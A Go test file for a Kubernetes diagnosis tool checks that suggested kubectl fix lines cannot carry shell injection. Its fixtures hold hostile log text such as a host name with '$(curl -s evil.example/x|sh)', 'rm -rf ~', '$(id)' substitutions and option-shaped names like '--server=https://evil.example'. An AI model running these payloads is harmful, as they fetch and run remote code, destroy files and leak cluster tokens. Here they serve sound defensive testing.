package diagnose

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"mvdan.cc/sh/v3/syntax"

	"github.com/rollout-gate/rollout-gate/internal/logparse"
)

// checkFixLine fails unless line is safe to paste into a shell: either one simple command whose
// words are plain or single-quoted text (no substitution, expansion, glob, second command or
// redirection), or a one-line comment whose values sit in single quotes.
func checkFixLine(t testing.TB, line string) {
	t.Helper()
	if strings.ContainsAny(line, "\n\r") {
		t.Errorf("fix line spans lines: %q", line)
		return
	}
	f, err := syntax.NewParser().Parse(strings.NewReader(line), "")
	if err != nil {
		t.Errorf("fix line does not parse: %v: %q", err, line)
		return
	}
	if strings.HasPrefix(line, "#") {
		if len(f.Stmts) != 0 {
			t.Errorf("comment line holds a command: %q", line)
		}
		if c := unquotedSpecial(line); c != "" {
			t.Errorf("comment line has %q outside quotes (runs where comments are off): %q", c, line)
		}
		return
	}
	if len(f.Stmts) != 1 {
		t.Errorf("fix line holds %d commands: %q", len(f.Stmts), line)
		return
	}
	st := f.Stmts[0]
	call, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || st.Background || st.Coprocess || st.Negated || len(st.Redirs) > 0 || len(call.Assigns) > 0 || len(call.Args) == 0 {
		t.Errorf("fix line is not one simple command: %q", line)
		return
	}
	for _, w := range call.Args {
		if v := wordValue(w); strings.HasPrefix(v, "-") && !gateOption.MatchString(v) {
			t.Errorf("option %q is not one the gate writes (a name from the cluster read as an option?): %q", v, line)
		}
		for _, p := range w.Parts {
			switch p := p.(type) {
			case *syntax.Lit:
				// \' is how a single quote is written between single-quoted parts.
				if strings.IndexFunc(strings.ReplaceAll(p.Value, `\'`, ""), unsafeShellRune) >= 0 {
					t.Errorf("bare word %q has shell-special characters: %q", p.Value, line)
				}
			case *syntax.SglQuoted:
				if p.Dollar {
					t.Errorf("$'...' word in %q", line)
				}
			default:
				t.Errorf("word part %T (expansion or substitution) in %q", p, line)
			}
		}
	}
}

// gateOption is every option spelling the gate writes in a fix command, set down here apart from
// the code that writes them: a fix line with any other word that starts with "-" lets text from
// the cluster speak to kubectl (--server=https://evil.example sends it the user's token).
var gateOption = regexp.MustCompile(`^(-[cnolpAw]|-it|-zv|-qO-|--|--rm|--previous|--show-labels|--containers|--field-selector|` +
	`--type=(json|merge)|--restart=Never|--image=busybox:1\.36|--sort-by=\.lastTimestamp|--timeout=5m|--for=condition=complete|` +
	`--docker-username=<user>|--docker-password=<password>|--(limits|requests|from-literal|docker-server)=.*)$`)

// wordValue is a shell word as the shell hands it to the command: its literal and single-quoted
// parts joined (\' between quotes is a quote).
func wordValue(w *syntax.Word) string {
	var b strings.Builder
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			b.WriteString(strings.ReplaceAll(p.Value, `\'`, "'"))
		case *syntax.SglQuoted:
			b.WriteString(p.Value)
		}
	}
	return b.String()
}

// unquotedSpecial returns the first character outside single quotes that a shell would expand.
func unquotedSpecial(line string) string {
	quoted := false
	for _, r := range line {
		switch {
		case r == '\'':
			quoted = !quoted
		case !quoted && strings.ContainsRune("$`\\", r):
			return string(r)
		}
	}
	return ""
}

func TestShellQuote(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"api", "api"},
		{"", "''"},
		{"deployment/api", "deployment/api"},
		{"--from-literal=DB_URL=<value>", "--from-literal=DB_URL='<value>'"},
		{"<workload>", "'<workload>'"},
		{"it's", `'it'\''s'`},
		{"=cmd", "'=cmd'"},
		{"a$(id)", "'a$(id)'"},
		{"--from-literal=~/y", "--from-literal='~/y'"},
		{"a b", "'a b'"},
	}
	for _, tc := range tests {
		if got := shellQuote(tc.in); got != tc.want {
			t.Errorf("shellQuote(%q) = %s, want %s", tc.in, got, tc.want)
		}
		checkFixLine(t, "kubectl get "+shellQuote(tc.in))
	}
}

func TestCommandAndNote(t *testing.T) {
	t.Parallel()
	tests := []struct{ got, want string }{
		{command("kubectl", "logs", "p", []string{"-n", "x y"}), "kubectl logs p -n 'x y'"},
		{command("kubectl", "get", "a\nb"), "kubectl get '<value>'"},
		{note("host %s", "x$(id)\n;rm"), "# host '<value>'"},
		{note("host %s", "x`id`"), "# host 'x`id`'"},
	}
	for _, tc := range tests {
		if tc.got != tc.want {
			t.Errorf("got %s, want %s", tc.got, tc.want)
		}
		checkFixLine(t, tc.got)
	}
}

// The payload: a host name carrying a command substitution is not a host, so it never
// reaches a command; the rest of the finding still stands.
func TestHostileHostNeverRuns(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, log string
		host      string // the host the fix may name ("" = none)
	}{
		{"translate host with substitution", `could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address: Name or service not known (port 5432)`, ""},
		{"bad address with backticks", "wget: bad address 'db`id`.local'", ""},
		{"on host with semicolon", `FATAL: no pg_hba.conf entry on host "db;rm -rf ~" connection refused`, ""},
		{"clean host", `dial tcp: lookup pg.example.com on 10.96.0.10:53: no such host`, "pg.example.com"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, d := range logparse.DialErrors([]string{tc.log}) {
				if !logparse.ValidHost(d.Host) || d.Port != "" && !logparse.ValidPort(d.Port) {
					t.Errorf("logparse.DialErrors kept %q:%q", d.Host, d.Port)
				}
				if tc.host != "" && d.Host != tc.host {
					t.Errorf("host = %q, want %q", d.Host, tc.host)
				}
			}
			for _, line := range fixLinesFor(t, tc.log) {
				checkFixLine(t, line)
				if strings.Contains(line, "curl") || strings.Contains(line, "rm -rf") || strings.Contains(line, "`id`") {
					t.Errorf("payload reached a fix line: %q", line)
				}
			}
		})
	}
}

var (
	fuzzFixturesOnce sync.Once
	fuzzFixtures     []fixture
)

// fixLinesFor runs the whole diagnosis of a few recorded failures with log replacing the
// containers' logs and also said by Warning events of the pods and ReplicaSets, and returns every
// fix line of every finding.
func fixLinesFor(t testing.TB, log string) []string { return fixLinesNamed(t, log, "") }

// fixLinesNamed is fixLinesFor with name, when not empty, in place of the env var DATABASE_PORT
// everywhere: in every pod template and pod, and in log.
func fixLinesNamed(t testing.TB, log, name string) []string {
	fuzzFixturesOnce.Do(func() {
		for _, dir := range []string{"dependency", "config-error", "app-crash", "liveness-probe", "missing-secret-key", "create-denied", "image-pull"} {
			fuzzFixtures = append(fuzzFixtures, loadFixture(t, dir))
		}
	})
	if name != "" {
		log = strings.ReplaceAll(log, "DATABASE_PORT", name)
	}
	var b strings.Builder
	for _, l := range strings.Split(log, "\n") {
		b.WriteString("2026-04-04T08:15:04.000000000Z " + l + "\n")
	}
	var out []string
	for _, fx := range fuzzFixtures {
		at := metav1.NewTime(fixtureNow.Add(-time.Minute))
		objs := slices.Clone(fx.objs)
		for i, o := range fx.objs {
			var ref corev1.ObjectReference
			reason, msg := "Failed", "Error: "+log
			switch o := o.(type) {
			case *corev1.Pod:
				ref = corev1.ObjectReference{Kind: "Pod", Name: o.Name, Namespace: o.Namespace}
			case *appsv1.ReplicaSet:
				ref = corev1.ObjectReference{Kind: "ReplicaSet", Name: o.Name, Namespace: o.Namespace}
				reason, msg = "FailedCreate", "Error creating: "+log
			default:
				continue
			}
			objs = append(objs, &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("fuzz.%d", i), Namespace: ref.Namespace},
				InvolvedObject: ref, Type: corev1.EventTypeWarning, Reason: reason, Message: msg, Count: 3,
				FirstTimestamp: at, LastTimestamp: at})
		}
		if name != "" {
			objs = renameEnv(objs, "DATABASE_PORT", name)
			fx.workload = renameEnv([]runtime.Object{fx.workload}, "DATABASE_PORT", name)[0]
			fx.pods = slices.Clone(fx.pods) // the fixtures are shared by parallel tests
			for i := range fx.pods {
				fx.pods[i] = *renameEnv([]runtime.Object{&fx.pods[i]}, "DATABASE_PORT", name)[0].(*corev1.Pod)
			}
		}
		fx.objs = objs
		logs := map[string]string{}
		for k := range fx.logs {
			logs[k] = b.String()
		}
		d, _, _ := fx.diagnoser(logs)
		res := fx.crashLoop(t, d)
		for _, f := range res.Findings {
			out = append(out, f.Fix...)
		}
	}
	return out
}

// renameEnv returns copies of the objects with env var from renamed to to in every container.
func renameEnv(objs []runtime.Object, from, to string) []runtime.Object {
	out := make([]runtime.Object, len(objs))
	for i, o := range objs {
		o = o.DeepCopyObject()
		var spec *corev1.PodSpec
		switch o := o.(type) {
		case *corev1.Pod:
			spec = &o.Spec
		case *appsv1.ReplicaSet:
			spec = &o.Spec.Template.Spec
		case *appsv1.Deployment:
			spec = &o.Spec.Template.Spec
		}
		if spec != nil {
			for _, cs := range [][]corev1.Container{spec.InitContainers, spec.Containers} {
				for j := range cs {
					for k := range cs[j].Env {
						if cs[j].Env[k].Name == from {
							cs[j].Env[k].Name = to
						}
					}
				}
			}
		}
		out[i] = o
	}
	return out
}

// TestOptionShapedNamesNeverRun is issue 20's attack: an env var may be named --server, and the
// fix that sets it must not hand kubectl that option.
func TestOptionShapedNamesNeverRun(t *testing.T) {
	t.Parallel()
	log := `FATAL: invalid value for DATABASE_PORT: "abc" (expected integer)`
	for _, name := range []string{"--server", "-s", "--token", "--kubeconfig", "-n", "--type"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			lines := fixLinesNamed(t, log, name)
			noted := false
			for _, line := range lines {
				checkFixLine(t, line)
				if strings.HasPrefix(line, "#") && strings.Contains(line, name) {
					noted = true
				}
			}
			if !noted {
				t.Errorf("no note names %q; fix lines:\n%s", name, strings.Join(lines, "\n"))
			}
		})
	}
	if got := command("kubectl", "set", "env", "deployment/api", "-c", "api", "--server=https://evil.example", []string{"-n", "production"}); !strings.HasPrefix(got, "# ") {
		t.Errorf("command with a foreign option = %q, want a note", got)
	}
}

// FuzzFixCommands renders fix commands from hostile log text and a hostile env var name (which
// may start with "-"): every line must stay one simple command of literal words whose options are
// the gate's own, or a comment.
func FuzzFixCommands(f *testing.F) {
	for _, s := range []string{
		`could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address (port 5432)`,
		"dial tcp: lookup `id`.svc on 10.96.0.10:53: no such host",
		"connecting to db';touch pwned;'.example.com:5432\nconnection refused",
		"KeyError: 'DB_$(id)_URL'\ninvalid value for DB_URL",
		"panic: runtime error\nGET /health$(id) 404",
	} {
		f.Add(s, "")
	}
	f.Add(`FATAL: invalid value for DATABASE_PORT: "abc" (expected integer)`, "--server")
	f.Add("KeyError: 'DATABASE_PORT'\nDATABASE_PORT is not set", "-s")
	f.Add(`FATAL: invalid value for DATABASE_PORT: "abc"`, "--token=x")
	f.Fuzz(func(t *testing.T, log, name string) {
		for _, line := range fixLinesNamed(t, log, name) {
			checkFixLine(t, line)
		}
	})
}

// Names and hosts read from event messages reach commands only when they are names and hosts.
func TestNamesFromEventsAreValidated(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ got, want string }{
		{nameOr("compute", "<quota>"), "compute"},
		{nameOr("a$(id)", "<quota>"), "<quota>"},
		{nameOr("Has Spaces", "<sa>"), "<sa>"},
		{hostOr("registry.internal", "<h>"), "registry.internal"},
		{hostOr("10.0.0.1", "<h>"), "10.0.0.1"},
		{hostOr("reg;rm -rf", "<h>"), "<h>"},
	} {
		if tc.got != tc.want {
			t.Errorf("got %q, want %q", tc.got, tc.want)
		}
	}
}
